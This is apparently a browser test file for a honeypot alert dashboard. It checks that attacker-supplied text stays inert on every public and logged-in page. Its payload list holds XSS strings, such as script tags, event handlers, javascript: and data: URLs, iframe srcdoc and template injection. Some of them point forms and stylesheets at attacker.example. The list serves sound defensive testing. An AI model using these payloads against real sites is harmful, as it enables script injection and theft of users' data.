// What attackers, sensors and vendors of places write stays text, whatever it is.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, newPage, until } from "../lib/browser.mjs";
import { alertXML, messageXML } from "../lib/messages.mjs";
import { startServer } from "../lib/server.mjs";
import { logIn, open, openPrivate, privatePages, settled, views } from "../lib/views.mjs";

// Every element and attribute that these texts could become has data-xss or its
// name, and every script sets window.xss.
const texts = [
  `<script data-xss>window.xss = 1</script>`,
  `"><img data-xss src=x onerror="window.xss = 1">`,
  `'><svg data-xss onload='window.xss = 1'>`,
  `</textarea></title></style></script><iframe data-xss srcdoc="<script>parent.xss = 1</script>"></iframe>`,
  `&lt;img data-xss src=x onerror=&quot;window.xss = 1&quot;&gt;`,
  `&#60;img data-xss src=x onerror=window.xss=1&#62;`,
  `<a data-xss href="javascript:window.xss = 1">data-xss</a><base data-xss href="//attacker.example/">`,
  `<link data-xss rel=stylesheet href=//attacker.example/x.css><style data-xss>@import "//attacker.example/"</style>`,
  `<form data-xss action=//attacker.example><input data-xss name=token autofocus onfocus="window.xss = 1">`,
  `" data-xss="1" onmouseover="window.xss = 1" style="background:url(//attacker.example/data-xss)`,
  `url(//attacker.example/data-xss); } * { display: none }`,
  "javascript:window.xss = 1//data-xss",
  "data:text/html,<script data-xss>window.xss = 1</script>",
  "${window.xss = 1}{{constructor.constructor('window.xss = 1')()}}data-xss",
  "]]><data-xss/><?xml-stylesheet href='//attacker.example/'?>",
  `data-xss \u202e\u2066 turned \u200b\u0085\ufeff \u{e0041}`,
  "__proto__", "constructor", "toString",
  "data-xss".repeat(1000),
];

// What a sensor may say about itself and the attacker.
const meanings = [
  "username", "password", "login", "version", "hostname", "uuid", "input", "cve_id", "payload", "externalIP", "protocol",
  "sessionid", "http_user-agent",
];

const user = "analyst";
const token = "her token";
const source = "9.9.9.9";

let server;
let browser;

// What the requests have that are sent while the page looks on.
const streamed = "from-the-stream ";

// hostile makes alerts that have a text in every place that can hold one; mark
// stands before it in requests.
function hostile(text, i, mark) {
  const analyzers = [`${text} tanner`, `cowrie-${i} ${text}`, `suricata ${text}`, `of-no-kind ${text}`];
  const request = `GET /${mark}${text} HTTP/1.1\r\nHost: ${text}\r\nUser-Agent: ${text}\r\n\r\n`;
  return analyzers.flatMap((analyzer, j) => [
    alertXML({
      analyzer, source, port: 80, at: new Date(Date.now() - i * 1000 - j), requests: { url: mark + text, raw: btoa(unescape(encodeURIComponent(request))) },
      data: Object.fromEntries(meanings.filter((name) => name !== "input").map((name) => [name, text])),
    }),
    alertXML({
      analyzer, source, at: new Date(Date.now() - i * 1000 - j), data: { ...Object.fromEntries(meanings.map((name) => [name, text])), [text]: text },
    }),
  ]);
}

async function send(mark = "") {
  for (const [i, text] of texts.entries()) await server.post(messageXML(...hostile(text, i, mark)));
  // Two of them are asked for more often than all else.
  for (let i = 0; i < 20; i++) await server.post(messageXML(...texts.slice(0, 2).flatMap((text) => hostile(text, 100 + i, mark))));
}

before(async () => {
  const places = process.env.PEBA_HOSTILE_PLACES;
  assert.ok(places, "PEBA_HOSTILE_PLACES names no mmdb file with hostile names: the Go test makes one");
  server = await startServer({ appOptions: `geoip mmdb ${places}\n\t\tfeed_interval 1s` });
  browser = await launch();
  await server.addUser(user, token);
  await server.play({ alerts: 100, seed: 8 });
  await send();
  await until("a feed lists the source", async () =>
    (await server.privateAnswer("feedLookup", { ip: source, ci: -1 }, user, token)).feeds[0]?.listed);
});
after(async () => {
  await browser?.close();
  await server?.close();
});

// inert fails if a text has become more than text.
async function inert(page, where) {
  const found = await page.evaluate(() => ({
    script: window.xss,
    elements: [...document.querySelectorAll("*")]
      .filter((e) => e.localName.includes("data-xss") || e.hasAttribute("data-xss") ||
        [...e.attributes].some((a) => /^on|^style$/.test(a.name) && a.value.includes("xss")) ||
        ["href", "src", "action", "class", "id"].some((name) => e.getAttribute(name)?.includes("xss")))
      .map((e) => e.outerHTML.slice(0, 200)),
    polluted: {}.xss ?? Object.keys(Object.prototype).join(),
    frames: document.querySelectorAll("iframe, object, embed, base, form[action]").length,
  }));
  assert.deepEqual(found, { script: undefined, elements: [], polluted: "", frames: 0 }, where);
}

// openAll opens whatever may be opened on a private page.
async function openAll(page) {
  await page.locator("#panel-private").evaluate((panel) => {
    const visible = (selector) => [...panel.querySelectorAll(selector)].filter((e) => e.checkVisibility());
    const more = () => visible("button").find((button) => /^Show \d+ more$/.test(button.textContent));
    while (more()) more().click();
    for (const button of visible("[aria-expanded=false], .private-counts button")) button.click();
  });
}

// privateTexts are where the pages have to show what was sent, as it is.
const script = texts[0];
const known = ["User", "Password", "Result", "Client", "CVE", "Session", "Host name"];
const details = { ".private-known dl": ["NetworkAS64500 <script data-xss>", ...known.map((name) => `${name}${script}`)], "pre[aria-label=Request]": [script], "pre[aria-label='Raw request']": [`Host: ${script}`] };
const privateTexts = {
  alerts: { ...details, ".private-extras": [`User ${script}`] },
  address: { ...details, ".private-counts": [script] },
  feeds: { ".feeds-entries": ["AS64500 <script data-xss>"], ".feeds-findings": ["AS64500 <script data-xss>"] },
  sensors: { ".private-advice": [`of-no-kind ${script}`], ".private-sensors": [script] },
};

const shows = (page, view) => page.locator(`#panel-${view}`).textContent();

test("hostile texts stay texts on every tab, from the lists and from the stream", async () => {
  const { page, clean, close } = await newPage(browser, server);
  await page.goto(server.page());
  await settled(page, "live");
  await inert(page, "live");
  // The list is not to tell what the stream has to.
  await page.route("**/alert/retrieveAlertsJson*", (route) => route.fulfill({ json: { alerts: [] } }));
  await send(streamed);
  await page.locator("#latest li", { hasText: streamed }).filter({ hasText: "data-xss" }).first().waitFor();
  await inert(page, "live, from the stream");
  for (const view of views) {
    await open(page, view);
    await inert(page, view);
  }
  const statistics = await shows(page, "statistics");
  for (const text of ["<script data-xss>", "onerror="]) assert.ok(statistics.includes(text), `${text} is not shown as it is`);
  await page.goto(server.page("#country=DE"));
  await settled(page, "live");
  await inert(page, "a country");
  clean();
  await close();
});

test("hostile texts stay texts on the pages for users", async () => {
  const { page, clean, close } = await newPage(browser, server);
  await page.goto(server.page());
  await logIn(page, user, token);
  await page.getByRole("heading", { name: "Latest alerts" }).waitFor();
  for (const name of privatePages) {
    if (name === "address") {
      await page.goto(server.page(`#view=private&page=address&ip=${source}`));
      await settled(page, "private");
    } else {
      await openPrivate(page, name);
    }
    await openAll(page);
    await inert(page, name);
    const shown = await shows(page, "private");
    assert.ok(shown.includes("<script data-xss>"), `${name} does not show a hostile text`);
    for (const [part, places] of Object.entries(privateTexts[name])) {
      const texts = (await page.locator(`#panel-private ${part}:visible`).allTextContents()).join("\n");
      for (const place of places) assert.ok(texts.includes(place), `${name}: ${part} does not show ${place}`);
    }
    assert.ok(!/[\u202e\u2066\u200b]/.test(shown), `${name} lets a text turn what stands beside it`);
  }
  clean();
  await close();
});
